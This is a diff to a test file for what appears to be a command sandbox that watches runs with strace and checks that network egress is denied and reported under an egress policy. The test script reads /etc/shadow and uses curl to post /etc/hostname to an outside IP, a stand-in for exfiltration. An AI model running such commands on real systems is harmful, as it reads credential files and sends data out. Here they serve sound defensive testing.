@@ -32,7 +32,8 @@ afterAll(async () => {
 });
 
 test('a run starts its own recorder, is watched by strace, and says what is not enforced', async () => {
-  const script = 'id -u; ls / >/dev/null; cat /etc/shadow; exit 3';
+  const script =
+    'id -u; ls / >/dev/null; cat /etc/shadow; curl -s http://198.51.100.7/x -d @/etc/hostname; exit 3';
   const words = ['run', '--data', data, '--policy', policy, '--json', '--', 'sh', '-c', script];
   const { exit, stdout, stderr } = await runCommand(words, { uid });
   expect(exit, stderr).toBe(3);
@@ -40,8 +41,9 @@ test('a run starts its own recorder, is watched by strace, and says what is not 
   expect(report).toMatchObject({ exitCode: 3, reason: 'exited', losses: [] });
   expect(report.events['process.exec']).toBeGreaterThanOrEqual(4);
   expect(report.events['file.open']).toBeGreaterThan(10);
+  expect(report.events['network.denied']).toBe(1);
+  expect(JSON.stringify(report.findings)).toContain('egress-policy');
   const fields = report.unenforced.map(({ field }: { field: string }) => field);
-  expect(fields).toContain('network.egress_allowlist');
   expect(fields).toContain('resources.memory_limit');
 });
 
